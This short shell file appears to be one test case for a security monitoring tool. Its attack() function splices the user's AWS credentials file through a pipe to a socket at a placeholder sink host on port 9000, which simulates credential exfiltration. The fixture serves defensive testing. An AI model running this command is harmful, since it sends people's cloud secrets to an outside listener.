# SPDX-License-Identifier: Apache-2.0
TITLE="splice from the secret through a pipe to the socket"
ROW="R06 N05 I05"
attack() { "$PROVOKE/splice" plain "$HOME/.aws/credentials" "$SINK4" 9000; }
